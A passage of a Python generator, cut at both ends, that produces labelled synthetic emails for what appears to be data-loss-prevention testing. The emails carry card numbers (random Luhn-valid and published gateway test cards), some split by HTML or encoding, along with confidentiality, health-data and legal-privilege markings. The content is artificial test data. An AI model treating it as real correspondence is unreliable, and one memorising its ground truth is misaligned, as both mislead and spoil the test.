# ordinary business text around the payloads
# --------------------------------------------------------------------------------------------

FILLER = [
    "The supplier has confirmed delivery for the week of the {d}th.",
    "I've updated the tracker so everyone can see where we are.",
    "Facilities will have the meeting room set up by nine.",
    "Can we catch up briefly after the Thursday review?",
    "The revised figures are on the shared drive under Q{q} planning.",
    "I'm out of the office on Friday but reachable on mobile.",
    "Marketing would like a final answer by the end of next week.",
    "We still need sign-off from procurement before anything goes out.",
    "The client was happy with the draft and had only minor comments.",
    "Let's keep the agenda short so we finish on time.",
    "Parking at the {city} site is limited, so the train may be easier.",
    "I've pencilled in a follow-up for the {d}th at 2pm.",
    "Sorry this has taken longer than planned; the month-end close got in the way.",
    "The new starters begin on Monday, so their desks need to be ready.",
    "Catering for twenty is booked; let me know about dietary requirements.",
    "The slides are nearly done, I just need the final numbers from finance.",
    "We agreed to revisit the timeline once the vendor replies.",
    "The audit window closes on the {d}th, so there isn't much slack.",
    "Could you double-check the delivery address before it is dispatched?",
    "I'll be in {city} on Wednesday if it's easier to meet in person.",
]
OPENERS = ["Hope your week is going well.", "Thanks for getting back to me so quickly.",
           "Following up on our call this morning.", "Quick one before I head into the workshop.",
           "Apologies for the slow reply.", "As discussed at Tuesday's stand-up:", "Hope you had a good weekend.",
           "", "", "", ""]
CLOSERS = ["Let me know if anything is unclear.", "Thanks in advance.", "Shout if you need anything else.",
           "Speak soon.", "Any questions, just ask.", "Appreciate your help with this.", "", "", ""]
SIGNOFFS = ["Best regards", "Kind regards", "Thanks", "Cheers", "Best", "Many thanks", "Regards", "Thank you",
            "All the best", "Warm regards"]
HOTELS = ["Grand Central Hotel", "Harbour View Inn", "Premier Inn Kings Cross", "Hilton Garden Inn", "Hotel Marlowe",
          "Radisson Blu", "The Principal", "Malmaison"]
VENDORS = ["Adobe", "Zoom", "Dropbox", "Canva", "Mailchimp", "Salesforce", "LinkedIn Premium", "Miro", "Atlassian",
           "Figma", "Calendly", "DocuSign"]
MONTHS = ["January", "February", "March", "April", "May", "June", "July", "September", "October", "November"]


def fill(rng, k=1):
    out = []
    for s in rng.sample(FILLER, k):
        out.append(s.format(d=rng.randint(3, 28), q=rng.randint(1, 4), city=rng.choice(CITIES)))
    return " ".join(out)


def phone(rng):
    f = rng.choice([
        lambda: "+44 20 7946 0%03d" % rng.randint(0, 999),
        lambda: "+44 161 496 0%03d" % rng.randint(0, 999),
        lambda: "+1 (%d) 555-01%02d" % (rng.choice([212, 312, 415, 617, 720]), rng.randint(0, 99)),
        lambda: "0117 496 0%03d" % rng.randint(0, 999),
        lambda: "+353 1 %03d %04d" % (rng.randint(100, 999), rng.randint(0, 9999)),
        lambda: "+61 2 %04d %04d" % (rng.randint(1000, 9999), rng.randint(0, 9999)),
        lambda: "07700 900%03d" % rng.randint(0, 999),
    ])
    return f()


def signature(rng, p):
    sig = [p["name"]]
    if rng.random() < 0.75:
        sig.append(p["title"] + ((" | " + p["org"]) if p.get("org") else ""))
    if rng.random() < 0.55:
        sig.append(rng.choice(["T: ", "Tel: ", "Mobile: ", "M: ", "Direct: ", ""]) + phone(rng))
    if rng.random() < 0.2 and p.get("org"):
        sig.append("www." + p["dom"])
    return "\n".join(sig)


FOOTERS = [
    "This e-mail and any files transmitted with it are confidential and intended solely for the use of the "
    "individual or entity to whom they are addressed. If you have received this e-mail in error please notify "
    "the sender and delete it from your system.",
    "CONFIDENTIALITY NOTICE: This message, including any attachments, is for the sole use of the intended "
    "recipient(s) and may contain confidential and privileged information. Any unauthorised review, use, "
    "disclosure or distribution is prohibited.",
    "Disclaimer: The information in this e-mail may be confidential and/or legally privileged. It is intended "
    "only for the addressee. Access to this e-mail by anyone else is unauthorised.",
    "{org} is registered in England and Wales, company number {regno}. Registered office: {n} {street}, {city}. "
    "This message may contain information that is confidential. If you are not the intended recipient, "
    "please tell us and delete it.",
    "Please consider the environment before printing this e-mail.",
    "IMPORTANT: The contents of this email and any attachments are confidential. They are intended for the named "
    "recipient(s) only. If you have received this email by mistake, please notify the sender immediately and do "
    "not disclose the contents to anyone or make copies thereof.",
    "E-mail is not a secure medium. {org} accepts no liability for any loss or damage caused by software "
    "viruses. Messages may be monitored for compliance purposes.",
]


def footer(rng, p):
    f = rng.choice(FOOTERS)
    return ("-- \n" if rng.random() < 0.3 else "") + f.format(
        org=p.get("org") or "The sender", regno="%08d" % rng.randint(1000000, 9999999), n=rng.randint(1, 200),
        street=rng.choice(["King Street", "Wellington Road", "Harbour Way", "Castle Quay", "Station Approach"]),
        city=rng.choice(CITIES))


def greeting(rng, to):
    f = to["first"] if isinstance(to, dict) else "all"
    return rng.choice(["Hi %s," % f, "Hello %s," % f, "Dear %s," % f, "%s," % f, "Morning %s," % f,
                       "Hi %s" % f, "Hey %s," % f, "Good afternoon %s," % f])


def compose(rng, frm, to, core, greet=True, sign=True, opener=None, closer=None, footer_p=0.12, quote=None,
            filler=None):
    parts = []
    if greet:
        parts.append(greeting(rng, to))
    op = rng.choice(OPENERS) if opener is None else opener
    body = core
    if op and rng.random() < 0.6:
        body = op + ("\n\n" if "\n" in body.split("\n\n")[0] else " ") + body
    parts.append(body)
    if filler if filler is not None else rng.random() < 0.45:
        parts.append(fill(rng, rng.randint(1, 2)))
    cl = rng.choice(CLOSERS) if closer is None else closer
    if cl:
        parts.append(cl)
    if sign:
        parts.append(rng.choice(SIGNOFFS) + ",\n" + signature(rng, frm))
    if rng.random() < footer_p:
        parts.append(footer(rng, frm))
    if quote:
        parts.append(quote)
    return "\n\n".join(parts) + "\n"


def quote_block(rng, who, dt_text, text):
    hdr = rng.choice(["On %s, %s <%s> wrote:" % (dt_text, who["name"], who["addr"]),
                      "-----Original Message-----\nFrom: %s <%s>\nSent: %s\nSubject: %s" % (
                          who["name"], who["addr"], dt_text, "RE"),
                      "%s wrote:" % who["name"]])
    if hdr.startswith("-----"):
        return hdr + "\n\n" + text
    return hdr + "\n" + "\n".join(("> " + l) if l.strip() else ">" for l in text.split("\n"))


def fwd_block(rng, who, to, subj, dt_text, text):
    if rng.random() < 0.5:
        h = "---------- Forwarded message ---------\nFrom: %s <%s>\nDate: %s\nSubject: %s\nTo: %s <%s>\n" % (
            who["name"], who["addr"], dt_text, subj, to["name"], to["addr"])
    else:
        h = "-----Original Message-----\nFrom: %s\nSent: %s\nTo: %s\nSubject: %s\n" % (
            who["name"], dt_text, to["name"], subj)
    return h + "\n" + text


def dtext(rng):
    d = rdate(rng)
    return rng.choice([d.strftime("%a, %d %b %Y at %H:%M"), d.strftime("%d %B %Y %H:%M"),
                       d.strftime("%A, %B %d, %Y %I:%M %p")])


def spec(family, labels, frm, to, subject, text, pans=(), **kw):
    d = {"family": family, "labels": labels, "frm": frm, "to": to, "subject": subject, "text": text,
         "pans": list(pans)}
    d.update(kw)
    return d


# --------------------------------------------------------------------------------------------
# PCI
# --------------------------------------------------------------------------------------------

def pan_fields(ctx, brand=None, style=None):
    r = ctx.rng
    b, d = new_pan(r, brand)
    mm, yy = expiry(r)
    return {"brand": b, "digits": d, "pan": fmt_pan(r, d, style), "mm": mm, "yy": yy, "cvv": cvv(r, b),
            "last4": d[-4:], "slash": r.choice(["/", "/", "-", " / "])}


PCI_INLINE = [
    "Could you book two rooms at the {hotel} for the {month} offsite and put them on the company {brand}? "
    "The number is «{pan}», expiry {mm}/{yy}, and the code on the back is {cvv}.",
    "Please update the card on file for our {vendor} subscription to «{pan}» (exp {mm}/{yy}). The old one was "
    "cancelled after the fraud alert.",
    "The customer rang back and read out her card so we can process the refund: «{pan}», expires {mm}/{yy}. "
    "She'd rather it went there than to the original card.",
    "For the registration fee ({amt}) please use my personal {brand}: «{pan}». Billing postcode is {postcode}.",
    "{who}'s corporate card number is «{pan}» if you need it for the taxi account. Valid through {mm}/{yy}.",
    "I can't get into the supplier portal so here are the details instead: «{pan}» {mm}/{yy} {cvv}. Please take "
    "the deposit of {amt}.",
    "Long number on the front is «{pan}», valid thru {mm}/{yy}, and the code on the back is {cvv}.",
    "Use «{pan}» for the flights. It's the {brand} ending {last4}, exp {mm}{slash}{yy}.",
    "Dispute ref {case}: the cardholder says the charge of {amt} on «{pan}» on {date} was not authorised. "
    "Please raise a chargeback with the acquirer.",
    "My daughter is on the Year 9 trip, please take the balance of {amt} from «{pan}», exp {mm}/{yy}. "
    "Thanks so much for organising it.",
    "Go ahead and renew the domains. «{pan}» / {mm}-{yy} / {cvv}",
    "Can you re-run the payment? Details again: «{pan}» expiry {mm}/{yy}. I think the first attempt failed because "
    "I gave you the wrong postcode.",
    "The hotel needs a guarantee for late arrival, so I gave them «{pan}» over the phone. Copying you so finance "
    "can reconcile it when the folio comes in.",
    "Charge the cancellation fee to «{pan}» please, same expiry as before ({mm}/{yy}).",
    "We'll pay the retainer by card rather than BACS this time: «{pan}», {mm}/{yy}, CVC {cvv}, name as on the invoice.",
]


def fam_pci_inline(ctx):
    r = ctx.rng
    f = pan_fields(ctx)
    frm, to = ctx.pair()
    core = mk(r.choice(PCI_INLINE)).format(
        hotel=r.choice(HOTELS), month=r.choice(MONTHS), vendor=r.choice(VENDORS), amt=money(r),
        postcode=postcode(r), who=r.choice(FIRST), case="DSP-%s" % rid(r, 6, string.ascii_uppercase),
        date="%d %s" % (r.randint(1, 28), r.choice(MONTHS)), **f)
    subj = r.choice(["Payment details", "Re: booking", "Card for the deposit", "Renewal", "Refund request",
                     "Trip balance", "Re: invoice %d" % r.randint(1000, 9999), "Quick favour", "Chargeback",
                     "Hotel guarantee"])
    return spec("pci_inline", {"pci": "text"}, frm, to, subj, compose(r, frm, to, core), [f["digits"]])


def money(r):
    return r.choice(["£%d.%02d" % (r.randint(40, 2400), r.randint(0, 99)), "$%d" % r.randint(50, 3000),
                     "€%d" % r.randint(80, 1500), "£%d" % r.randint(100, 900)])


def postcode(r):
    return r.choice(["LS1 %d%s" % (r.randint(1, 9), rid(r, 2, "ABDEFGHJLNPQRSTUWXYZ")),
                     "BS8 %d%s" % (r.randint(1, 9), rid(r, 2, "ABDEFGHJLNPQRSTUWXYZ")),
                     "%05d" % r.randint(10000, 99999)])


BLOCK_LABELS = [("Cardholder", "Card number", "Expiry", "CVV"), ("Name on card", "Card No.", "Exp. date", "Security code"),
                ("Cardholder name", "PAN", "Valid to", "CVC"), ("Name", "Number", "Expires", "CSC"),
                ("Card holder", "Credit card #", "Exp", "CV2"), ("Name", "Card", "Good thru", "Code"),
                ("Holder", "Card num", "Exp date", "3-digit code")]
BLOCK_LEADS = ["As requested, card details for the {vendor} invoice:", "Payment details for the booking below.",
               "Here you go:", "Please settle the invoice we discussed using the following:",
               "Details for the sponsorship payment:", "For the visa application fee:", "Card for the team dinner:"]


def fam_pci_block(ctx):
    r = ctx.rng
    f = pan_fields(ctx)
    frm, to = ctx.pair()
    lab = r.choice(BLOCK_LABELS)
    sep = r.choice([": ", " - ", ":\t", " = ", ": "])
    holder = r.choice(FIRST) + " " + r.choice(LAST)
    lines = [lab[0] + sep + holder, lab[1] + sep + S + f["pan"] + E,
             lab[2] + sep + f["mm"] + r.choice(["/", "/20"]) + f["yy"], lab[3] + sep + f["cvv"]]
    if r.random() < 0.3:
        lines.insert(0, "Type" + sep + f["brand"])
    core = r.choice(BLOCK_LEADS).format(vendor=r.choice(VENDORS)) + "\n\n" + "\n".join(lines)
    subj = r.choice(["Card details", "payment info", "Invoice %s" % rid(r, 5, string.digits), "Sponsorship",
                     "Visa fee", "Team dinner - payment", "Re: Booking confirmation"])
    return spec("pci_block", {"pci": "text"}, frm, to, subj, compose(r, frm, to, core), [f["digits"]])


def fam_pci_table(ctx):
    r = ctx.rng
    frm, to = ctx.pair(external=False)
    n = r.randint(2, 4)
    rows = []
    pans = []
    style = r.choice(["space", "dash", "none", None])
    for _ in range(n):
        f = pan_fields(ctx, style=style)
        pans.append(f["digits"])
        rows.append((r.choice(FIRST) + " " + r.choice(LAST), f["pan"], f["mm"] + "/" + f["yy"],
                     "£%d,000" % r.randint(1, 15)))
    kind = r.choice(["pipe", "tab", "csv", "fixed"])
    hdr = ("Employee", "Card number", "Expiry", "Limit")
    if kind == "pipe":
        t = "| " + " | ".join(hdr) + " |\n|---|---|---|---|\n" + "\n".join(
            "| %s | %s | %s | %s |" % (a, S + b + E, c, d) for a, b, c, d in rows)
    elif kind == "tab":
        t = "\t".join(hdr) + "\n" + "\n".join("%s\t%s\t%s\t%s" % (a, S + b + E, c, d) for a, b, c, d in rows)
    elif kind == "csv":
        t = "employee,card_number,expiry,limit\n" + "\n".join(
            '%s,%s,%s,"%s"' % (a, S + b + E, c, d) for a, b, c, d in rows)
    else:
        t = "%-22s %-24s %-7s %s\n" % hdr + "\n".join("%-22s %s %-7s %s" % (a, S + b.ljust(24) + E, c, d)
                                                     for a, b, c, d in rows)
    core = r.choice(["Here are the purchasing cards issued this month so you can set the limits:",
                     "Cards to be loaded into the expenses system:",
                     "Please cancel the following cards; the holders have left:",
                     "Reconciliation list from the bank portal, as promised:"]) + "\n\n" + t
    html = None
    if r.random() < 0.6:
        html = ("<p>" + esc(core.split("\n\n")[0]) + "</p>\n<table border=\"1\" cellspacing=\"0\">\n<tr>"
                + "".join("<th>%s</th>" % x for x in hdr) + "</tr>\n"
                + "\n".join("<tr><td>%s</td><td>%s</td><td>%s</td><td>%s</td></tr>" % (esc(a), S + b + E, c, esc(d))
                            for a, b, c, d in rows) + "\n</table>\n<p>%s</p>\n<p>%s</p>"
                % (esc(rng_choice(r, SIGNOFFS)) + ",", esc(frm["name"])))
    subj = r.choice(["P-cards %s" % r.choice(MONTHS), "Card list", "Cards to cancel", "Bank reconciliation"])
    return spec("pci_table", {"pci": "text"}, frm, to, subj, compose(r, frm, to, core), pans, html=html)


def rng_choice(r, xs):
    return r.choice(xs)


def fam_pci_html_split(ctx):
    """Card number in an HTML message, split by tags or entities (payload only in HTML)."""
    r = ctx.rng
    f = pan_fields(ctx, style=r.choice(["space", "dash", "none", "space"]))
    frm, to = ctx.pair()
    lead = r.choice(["Booking confirmed for %s nights." % r.randint(1, 5), "Your order is ready for payment.",
                     "Thanks for the call earlier; as agreed here is the card to use.",
                     "Deposit details for the venue:"])
    tpl = r.choice([
        '<p>{lead}</p>\n<table style="border-collapse:collapse"><tr><td style="padding:4px"><b>Card</b></td>'
        '<td style="padding:4px">«{pan}»</td></tr><tr><td style="padding:4px"><b>Expiry</b></td><td>{mm}/{yy}</td></tr>'
        '</table>\n<p>Regards,<br>{name}</p>',
        '<div>{lead}</div><div><br></div><div>Card number: «{pan}»&nbsp; exp {mm}/{yy}</div><div><br></div><div>{name}</div>',
        '<p class="MsoNormal">{lead}<o:p></o:p></p><p class="MsoNormal">«{pan}» &#8211; {mm}/{yy} &#8211; {cvv}<o:p></o:p></p>'
        '<p class="MsoNormal">Thanks,<br>{first}<o:p></o:p></p>',
    ])
    html = mk(tpl).format(lead=esc(lead), name=esc(frm["name"]), first=esc(frm["first"]), **f)
    text = compose(r, frm, to, lead + "\n\nCard number: " + S + f["pan"] + E + " exp " + f["mm"] + "/" + f["yy"])
    sp = spec("pci_html_split", {"pci": "text"}, frm, to, r.choice(["Payment", "Deposit", "Venue booking", "Order"]),
              text, [f["digits"]], html=html)
    sp["car"] = {"layout": ["html", "html", "alt"], "obf": ["tags", "entities", "mixed"]}
    return sp


def fam_pci_qp(ctx):
    r = ctx.rng
    sp = r.choice([fam_pci_inline, fam_pci_block])(ctx)
    sp["family"] = "pci_qp_split"
    sp["car"] = {"layout": ["plain"], "cte": ["quoted-printable"], "awkward": [True], "extra": [True, False],
                 "charset": ["utf-8", "iso-8859-1", "windows-1252", "us-ascii"]}
    return sp


def fam_pci_subject(ctx):
    r = ctx.rng
    f = pan_fields(ctx)
    frm, to = ctx.pair()
    subj = mk(r.choice(["Card for the Lisbon booking «{pan}»", "Re: deposit «{pan}» exp {mm}/{yy}",
                        "Payment: {brand} «{pan}»", "use «{pan}» for the renewal", "«{pan}»"])).format(**f)
    core = r.choice(["See subject line. Please charge the deposit and send me the receipt.",
                     "Number's in the subject, expiry {mm}/{yy}. Thanks for sorting this.".format(**f),
                     "As above. Let me know once it has gone through."])
    return spec("pci_subject", {"pci": "header"}, frm, to, subj, compose(r, frm, to, core, filler=False), [f["digits"]])


def fam_pci_reply(ctx):
    r = ctx.rng
    f = pan_fields(ctx)
    frm, to = ctx.pair(external=True)
    if r.random() < 0.5:
        # card in the quoted original
        orig = mk("Hi,\n\nPlease use my card for the order: «{pan}», exp {mm}/{yy}, code {cvv}.\n\nThanks,\n{n}").format(
            n=to["first"], **f)
        core = r.choice(["Thanks, that has gone through now. Receipt to follow.",
                         "Payment taken, thank you. Your order ships tomorrow.",
                         "Got it. I'll confirm once the bank authorises it."])
        text = compose(r, frm, to, core, quote=quote_block(r, to, dtext(r), orig), footer_p=0.05)
    else:
        orig = "Hi,\n\nWe couldn't take the payment. Could you send the card details again?\n\nThanks,\n%s" % to["first"]
        core = mk(r.choice(["Sorry about that, try «{pan}» instead, expiry {mm}/{yy}.",
                            "Apologies, typo on my side. Correct number: «{pan}» ({mm}/{yy}, {cvv}).",
                            "Here it is again: «{pan}» {mm}/{yy}"])).format(**f)
        text = compose(r, frm, to, core, quote=quote_block(r, to, dtext(r), orig))
    return spec("pci_reply", {"pci": "text"}, frm, to, "Re: " + r.choice(["Your order", "Payment failed", "Booking %d" % r.randint(100, 999)]),
                text, [f["digits"]], reply=True)


def fam_pci_forward(ctx):
    r = ctx.rng
    f = pan_fields(ctx)
    frm, to = ctx.pair(external=False)
    cust = ctx.person(free=True)
    inner = mk(r.choice(["Hello, I'd like to pay the outstanding balance by card. The number is «{pan}» and it expires {mm}/{yy}. "
                         "The security code is {cvv}.\n\n{c}",
                         "Dear team, please take payment for invoice {inv} from «{pan}» exp {mm}/{yy}.\n\nRegards\n{c}"])).format(
        c=cust["name"], inv="INV-%s" % rid(r, 5, string.digits), **f)
    core = r.choice(["FYI, can you process this one? Customer emailed it in directly.",
                     "Forwarding as this came into the general inbox.", "Can you deal with this please?"])
    text = compose(r, frm, to, core, greet=r.random() < 0.5, filler=False) + "\n" + fwd_block(r, cust, frm, "Payment", dtext(r), inner)
    return spec("pci_forward", {"pci": "text"}, frm, to, r.choice(["Fwd: Payment", "FW: outstanding balance"]), text, [f["digits"]])


def fam_pci_multi(ctx):
    r = ctx.rng
    fs = [pan_fields(ctx) for _ in range(r.randint(2, 3))]
    frm, to = ctx.pair(external=False)
    lst = ", ".join(S + f["pan"] + E for f in fs[:-1]) + " and " + S + fs[-1]["pan"] + E
    core = r.choice(["These cards were used at the conference and need re-issuing: %s.",
                     "Flagged by the bank as possibly compromised: %s. Please block them today.",
                     "The three cards on the travel account are %s; please add them to the booking tool."]) % lst
    return spec("pci_multi", {"pci": "text"}, frm, to, r.choice(["Cards to block", "Travel account cards", "Re-issue"]),
                compose(r, frm, to, core), [f["digits"] for f in fs])


def fam_pci_bare(ctx):
    """Card number with almost no card vocabulary around it."""
    r = ctx.rng
    f = pan_fields(ctx)
    frm, to = ctx.pair()
    core = mk(r.choice(["Here's the one to use: «{pan}» {mm}/{yy}", "«{pan}»\n{mm}/{yy}\n{cvv}",
                        "digits are «{pan}», back {cvv}", "Try this one instead → «{pan}» ({mm}/{yy})",
                        "numbers off the front: «{pan}» good till {mm}/{yy}"])).format(**f)
    return spec("pci_bare", {"pci": "text"}, frm, to, r.choice(["as requested", "the other one", "Re: order", "here"]),
                compose(r, frm, to, core, greet=r.random() < 0.5, sign=r.random() < 0.6, footer_p=0, filler=False),
                [f["digits"]])


# Test card numbers that payment gateways publish (Stripe, Adyen, Braintree, Authorize.Net, Cybersource
# docs), by network, as the gateway prints them; numbers marked "made" are a network's prefix, random
# digits and the Luhn check digit, for networks whose gateways' lists were not at hand.
GATEWAY_CARDS = [
    ("Visa", "4242 4242 4242 4242"), ("Visa", "4000 0566 5566 5556"), ("Visa", "4012888888881881"),
    ("Visa", "4222222222222"), ("Visa", "4035 5010 0000 0008"),
    ("Mastercard", "5555 5555 5555 4444"), ("Mastercard", "2223 0031 2200 3222"),
    ("Mastercard", "5105105105105100"),
    ("American Express", "3782 822463 10005"), ("American Express", "371449635398431"),
    ("American Express", "3700 0000 0000 002"),
    ("Discover", "6011 1111 1111 1117"), ("Discover", "6445 6445 6445 6445"),
    ("JCB", "3530 1113 3330 0000"), ("JCB", "3566002020360505"), ("JCB", "3088000000000017"),
    ("Diners Club", "3622 720627 1667"), ("Diners Club", "30569309025904"), ("Diners Club", "3056 9300 0902 0004"),
    ("Diners Club", "3600 6666 3333 44"),
    ("UnionPay", "6200 0000 0000 0005"), ("UnionPay", "8171 9999 2766 0000"),
    ("UnionPay", "8171 9999 0000 0000 021"), ("UnionPay", "6205500000000000004"),
    ("Maestro", "6759 6498 2643 8453"), ("Maestro", "6771 7980 2100 0008"),
    ("Elo", "5066 9911 1111 1118"), ("Hipercard", "6062 8288 8866 6688"), ("Dankort", "5019 5555 4444 5555"),
    ("UATP", "1354 1001 4004 955"),
    ("Mir", "made:2200"), ("Mir", "made:2204"), ("RuPay", "made:508"), ("RuPay", "made:6522"),
    ("Troy", "made:9792"), ("Verve", "made:506099"),
]
GATEWAY_TPL = [
    "For the checkout tests use the {net} test card «{pan}» with any future expiry and CVC {cvc}.",
    "QA note: {net} «{pan}», exp {mm}/{yy}, should be authorised in the sandbox but we get a decline.",
    "The sandbox rejected «{pan}» again. Can you check the {net} set-up? Expiry we used was {mm}/{yy}.",
    "Test card for {net}: «{pan}» (expiry {mm}/{yy}, CVC {cvc}).",
    "Card number «{pan}», expiry {mm}/{yy}, security code {cvc}. That's the {net} one from the docs.",
    "Could you run the {net} card «{pan}» through the new payment page before Friday? Any future date works.",
]


def gateway_number(r, num):
    if not num.startswith("made:"):
        return num.replace(" ", ""), num
    pre = num[5:]
    body = pre + "".join(r.choice(string.digits) for _ in range(15 - len(pre)))
    d = body + luhn_digit(body)
    return d, grp(d)


def fam_pci_gateway(ctx):
    """A developer or tester passes on a payment gateway's test card number."""
    r = ctx.rng
    net, num = r.choice(GATEWAY_CARDS)
    d, shown = gateway_number(r, num)
    assert card_like(d), net
    frm, to = ctx.pair(external=False)
    mm, yy = expiry(r)
    core = mk(r.choice(GATEWAY_TPL)).format(net=net, pan=shown, cvc=r.choice(["737", "123", "100", "7373"]), mm=mm,
                                           yy=yy)
    subj = r.choice(["Checkout tests", "Sandbox payments", "%s test card" % net, "Re: payment page QA",
                     "Regression run"])
    return spec("pci_gateway_test_card", {"pci": "text"}, frm, to, subj, compose(r, frm, to, core), [d])


# Card numbers of a length or layout fewer cards have, with the card words or expiry that say what they are.
UNUSUAL_TPL = [
    "My old Visa still has the short number, «{pan}», valid thru {mm}/{yy}. Please use that one.",
    "Credit card number: «{pan}»\nExpiry date: {mm}/{yy}",
    "Meine Kreditkarte: «{pan}», gültig bis {mm}/{yy}.",
    "Numéro de carte : «{pan}», date d'expiration {mm}/{yy}.",
    "Número de tarjeta «{pan}», fecha de caducidad {mm}/{yy}.",
    "The debit card they issued has a 19-digit number: «{pan}» (exp {mm}/{yy}).",
    "Card «{pan}» {mm}/{yy} cvv {cvv}",
]


def unusual_pan(r):
    kind = r.choice(["visa13", "diners14", "visa19", "discover19", "unionpay19", "maestro18"])
    pre, L = {"visa13": ("4", 13), "diners14": (r.choice(["36", "38", "300"]), 14), "visa19": ("4", 19),
              "discover19": ("6011", 19), "unionpay19": ("62", 19), "maestro18": ("6759", 18)}[kind]
    body = pre + "".join(r.choice(string.digits) for _ in range(L - len(pre) - 1))
    d = body + luhn_digit(body)
    style = r.choice(["none", "space"])
    if style == "none":
        return d, d
    return d, fmt_pan(r, d, "space")


def fam_pci_unusual(ctx):
    """A card number of an unusual length (13, 14, 18, 19 digits) with card words or an expiry date."""
    r = ctx.rng
    d, shown = unusual_pan(r)
    if not card_like(d):
        return fam_pci_unusual(ctx)
    frm, to = ctx.pair()
    mm, yy = expiry(r)
    core = mk(r.choice(UNUSUAL_TPL)).format(pan=shown, mm=mm, yy=yy, cvv=cvv(r, "Visa"))
    subj = r.choice(["Card details", "Zahlung", "Paiement", "Pago", "the card", "Payment for the deposit"])
    return spec("pci_unusual_length", {"pci": "text"}, frm, to, subj, compose(r, frm, to, core), [d])


# --------------------------------------------------------------------------------------------
# classification
# --------------------------------------------------------------------------------------------

CLS_TOPICS = [
    ("Q{q} board pack", "The board pack for the Q{q} meeting is ready for your review. Revenue is {p}% behind plan and the "
                        "recovery options are summarised on page four."),
    ("Restructuring proposal", "Attached is the summary of the restructuring proposal. {k} roles in the {city} office are "
                               "affected and consultation would start in {month}."),
    ("Salary bands {y}", "Here are the proposed salary bands for {y}. Band C moves up by {p}%, bands D and E are unchanged."),
    ("Project {code}", "Project {code} update: due diligence on the target is {p}% complete and the indicative offer "
                       "goes to their board on the {d}th."),
    ("Pricing strategy", "We plan to raise list prices by {p}% in {month} while holding the enterprise tier flat until renewal."),
    ("Headcount plan", "The headcount plan assumes {k} new hires in engineering and a freeze everywhere else until Q{q}."),
    ("Vendor shortlist", "The shortlist is down to two vendors; our preferred bidder is {p}% cheaper over five years."),
    ("Disciplinary hearing", "The hearing for the employee in the {city} depot is set for the {d}th. Please keep the "
                             "panel to the three of us."),
    ("Site closure", "We intend to close the {city} warehouse at the end of {month}. Staff will be told on the {d}th."),
]


def cls_topic(r):
    t, b = r.choice(CLS_TOPICS)
    vals = dict(q=r.randint(1, 4), p=r.randint(3, 40), k=r.randint(4, 60), city=r.choice(CITIES), month=r.choice(MONTHS),
                y=r.choice([2024, 2025, 2026]), code=r.choice(["Falcon", "Kestrel", "Bluebird", "Harrier", "Oriole", "Juniper"]),
                d=r.randint(3, 28))
    return t.format(**vals), b.format(**vals)


BANNERS = ["CONFIDENTIAL", "*** CONFIDENTIAL ***", "STRICTLY CONFIDENTIAL – FOR ADDRESSEE ONLY",
           "Classification: Confidential", "CLASSIFICATION: INTERNAL USE ONLY", "Internal Use Only",
           "INTERNAL ONLY – not for external distribution", "RESTRICTED", "RESTRICTED – {org} staff only",
           "Company Confidential – do not forward", "PROPRIETARY AND CONFIDENTIAL", "{org} PROPRIETARY – TRADE SECRET",
           "Highly Confidential", "Confidential – Board members only", "HR – Strictly Private & Confidential",
           "Data classification: RESTRICTED", "[Classification: Internal]", "Label: Highly Confidential \\ All Employees",
           "CONFIDENTIAL - COMMERCIALLY SENSITIVE", "Confidential // Internal", "Security marking: CONFIDENTIAL",
           "TRADE SECRET – DO NOT DISCLOSE", "Internal – do not share outside the company"]
CLS_PARA = ["This message is classified as Confidential and is intended for the named recipients only.",
            "This e-mail has been classified Internal; please do not share it outside {org}.",
            "Not for distribution outside {org}.",
            "For internal circulation only; do not send this outside the leadership group.",
            "Classified: Company Confidential. Handle according to the information security policy.",
            "Marked RESTRICTED under the {org} data handling standard. No onward distribution.",
            "The information below is {org} proprietary and must not be disclosed to third parties.",
            "Distribution: named recipients only (confidential).",
            "Please note the contents are strictly confidential and must stay within the deal team.",
            "Handling instruction: sensitive, internal audience only, do not pass on."]
PHI = ["CONTAINS PROTECTED HEALTH INFORMATION (PHI)",
       "This message contains Protected Health Information. Handle in accordance with HIPAA and the {org} privacy policy.",
       "PHI – PATIENT IDENTIFIABLE INFORMATION – DO NOT FORWARD",
       "Notice: the following includes protected health information about the patient named below.",
       "Protected health information enclosed – minimum necessary, treating team only."]
PRIV = ["PRIVILEGED & CONFIDENTIAL — ATTORNEY-CLIENT COMMUNICATION", "Attorney–Client Privileged / Attorney Work Product",
        "Privileged and Confidential: prepared at the request of counsel in anticipation of litigation",
        "LEGALLY PRIVILEGED – SUBJECT TO LITIGATION PRIVILEGE", "Subject to legal professional privilege – do not forward"]


def fam_cls_banner(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    title, body = cls_topic(r)
    ban = r.choice(BANNERS).format(org=frm["org"])
    deco = r.choice(["", "", "=== %s ===", "**%s**", "[%s]", "-- %s --"])
    ban_line = (deco % (S + ban + E)) if deco else (S + ban + E)
    text = compose(r, frm, to, body)
    pos = r.choice(["top", "top", "bottom", "both"])
    if pos in ("top", "both"):
        text = ban_line + "\n\n" + text
    if pos in ("bottom", "both"):
        text = text + "\n" + ban_line + "\n"
    return spec("cls_banner", {"classification": "text"}, frm, to, title, text)


def fam_cls_para(ctx):
    r = ctx.rng
    frm, to = ctx.pair()
    title, body = cls_topic(r)
    sent = S + r.choice(CLS_PARA).format(org=frm["org"]) + E
    core = (sent + "\n\n" + body) if r.random() < 0.5 else (body + "\n\n" + sent)
    return spec("cls_paraphrase", {"classification": "text"}, frm, to, title, compose(r, frm, to, core))


def fam_cls_phi(ctx):
    r = ctx.rng
    org = next(o for o in ORGS if "Health" in o[0] or "Dental" in o[0]) if r.random() < 0.8 else r.choice(ORGS)
    frm = ctx.person(org)
    to = ctx.person(r.choice(ORGS))
    pat = ctx.person(free=True)
    ban = S + r.choice(PHI).format(org=frm["org"]) + E
    body = ("Referral for %s (DOB %02d/%02d/%d, MRN %s). Presenting with persistent lower back pain; MRI booked for "
            "the %dth. Please see the clinic letter below for medication history." % (
                pat["name"], r.randint(1, 28), r.randint(1, 12), r.randint(1940, 2005), rid(r, 3, string.ascii_uppercase)
                + rid(r, 6, string.digits), r.randint(3, 28)))
    text = ban + "\n\n" + compose(r, frm, to, body) if r.random() < 0.7 else compose(r, frm, to, body + "\n\n" + ban)
    return spec("cls_phi", {"classification": "text"}, frm, to, r.choice(["Referral", "Patient transfer", "Clinic letter"]), text)


def fam_cls_priv(ctx):
    r = ctx.rng
    org = ("Calder & Finch LLP", "calderfinch.com")
    frm = ctx.person(org)
    to = ctx.person()
    ban = S + r.choice(PRIV) + E
    body = r.choice(["Our preliminary view is that the indemnity in clause 14 does not cover the {city} claim. "
